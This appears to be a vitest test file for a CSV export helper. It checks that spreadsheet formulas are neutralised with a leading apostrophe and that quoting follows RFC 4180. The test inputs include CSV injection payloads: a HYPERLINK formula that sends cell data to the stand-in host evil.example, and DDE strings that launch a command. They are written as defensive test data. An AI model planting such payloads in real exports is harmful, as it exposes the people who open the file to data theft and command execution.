import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, neutraliseFormula } from '../../../main/lib/csv.ts';

describe('cells a spreadsheet would run as a formula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1, "Click")', `'=HYPERLINK("http://evil.example/?"&A1, "Click")`],
    ['=1+2', `'=1+2`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
    ['-2+3+cmd|x', `'-2+3+cmd|x`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['+', `'+`],
  ])('%j opens as text', (raw, safe) => expect(neutraliseFormula(raw)).toBe(safe));

  it.each(['+4930123456', '+1 (415) 555-2671', '-12.50', '+3e5', '-0800', '12', 'Smith', 'a=b', 'mail@example.org', ''])('%j stays exactly as it is', (v) => {
    expect(neutraliseFormula(v)).toBe(v);
  });
});

describe('RFC 4180 cells', () => {
  it('quotes what needs quoting and doubles quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(85000)).toBe('85000');
  });
  it('neutralises before quoting, so a quoted formula is still text', () => {
    expect(csvLine(['=A1,B1', 'x'])).toBe(`"'=A1,B1",x\n`);
  });
});
